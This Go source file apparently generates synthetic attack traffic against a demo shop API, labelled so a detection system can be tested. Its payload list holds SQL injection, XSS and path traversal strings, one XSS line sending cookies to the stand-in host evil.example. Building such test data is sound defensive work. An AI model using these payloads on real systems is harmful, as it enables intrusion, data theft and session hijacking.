package demo

import (
	"strconv"

	"github.com/apisessions/apisessions/internal/jsonstring"
)

// place is where an attack payload goes in a request.
type place uint8

const (
	inQuery place = iota
	inJSON
	inHeader
	inPath
)

// payload is one attack the attackers send.
type payload struct {
	kind  string // sqli, xss, path_traversal: what detection should find
	place place
	value string
}

// payloads returns the attacks, with query values already escaped, so that
// the hot path only copies.
func payloads() []payload {
	ps := []payload{
		{"sqli", inQuery, "' OR '1'='1' --"},
		{"sqli", inQuery, "1 UNION SELECT username, password FROM users--"},
		{"sqli", inQuery, "1; DROP TABLE orders;--"},
		{"sqli", inJSON, "1' AND SLEEP(5)#"},
		{"sqli", inJSON, "admin' --"},
		{"sqli", inHeader, "' or 1=1 limit 1 -- -+"},
		{"xss", inQuery, "<script>alert(document.cookie)</script>"},
		{"xss", inQuery, `"><img src=x onerror=alert(1)>`},
		{"xss", inJSON, "<svg/onload=fetch('//evil.example/'+document.cookie)>"},
		{"xss", inHeader, "<script>alert('xss')</script>"},
		{"path_traversal", inQuery, "../../../../etc/passwd"},
		{"path_traversal", inQuery, "..\\..\\..\\windows\\win.ini"},
		{"path_traversal", inPath, "..%2f..%2f..%2f..%2fetc%2fpasswd"},
		{"path_traversal", inPath, "....//....//....//etc/shadow"},
	}
	for i := range ps {
		if ps[i].place == inQuery {
			ps[i].value = queryEscape(ps[i].value)
		}
	}
	return ps
}

// newAttackers returns the attackers: the first logs in like a customer and
// attacks from inside its session, the others are scanners without one.
func (g *generator) newAttackers(n int) []*session {
	r := g.rng
	as := make([]*session, n)
	for k := range as {
		s := &session{host: ShopHost, role: "customer", ip: g.clientIP()}
		if k == 0 {
			s.kind = kindAttacker
			s.user = "mallory." + strconv.Itoa(100+r.IntN(900))
			s.password = "pw-" + randToken(r, 10)
			s.ua = browserAgents[r.IntN(len(browserAgents))]
		} else {
			s.kind = kindScanner
			s.ua = scannerAgents[(k-1)%len(scannerAgents)]
			if k%2 == 0 {
				s.host = APIHost
			}
		}
		as[k] = s
	}
	return as
}

// attack makes one request of attacker s: mostly an attack, the logged-in
// attacker's first request is its login.
func (g *generator) attack(s *session) {
	r := g.rng
	if s.kind == kindAttacker && !s.loggedIn {
		s.failed = true // its login succeeds: the attack is inside a session
		g.login(s)
		return
	}
	p := g.payloads[r.IntN(len(g.payloads))]
	switch p.place {
	case inQuery:
		if r.IntN(2) == 0 {
			g.setRequest(s, "GET", "/api/products", "?page=1&q="+p.value)
		} else {
			g.setRequest(s, "GET", "/api/files", "?name="+p.value)
		}
	case inJSON:
		if r.IntN(2) == 0 {
			g.setRequest(s, "POST", "/api/login", "")
			g.header("Content-Type", "application/json")
			g.reqBody = append(g.reqBody, `{"username":`...)
			g.reqBody = jsonstring.AppendQuote(g.reqBody, p.value)
			g.reqBody = append(g.reqBody, `,"password":"x"}`...)
			g.respond(401, `{"error":"invalid credentials"}`)
			return
		}
		g.setRequest(s, "POST", "/api/cart", "")
		g.header("Content-Type", "application/json")
		g.reqBody = append(g.reqBody, `{"product_id":`...)
		g.reqBody = jsonstring.AppendQuote(g.reqBody, p.value)
		g.reqBody = append(g.reqBody, `,"quantity":1}`...)
	case inHeader:
		g.setRequest(s, "GET", "/api/account/profile", "")
		if r.IntN(2) == 0 {
			g.header("Referer", p.value)
		} else {
			g.header("X-Forwarded-Host", p.value)
		}
	case inPath:
		g.setRequest(s, "GET", "/static/", p.value)
	}
	switch r.IntN(4) {
	case 0:
		g.respond(500, `{"error":"internal error"}`)
	case 1:
		g.respond(404, `{"error":"not found"}`)
	default:
		g.respond(400, `{"error":"bad request"}`)
	}
}
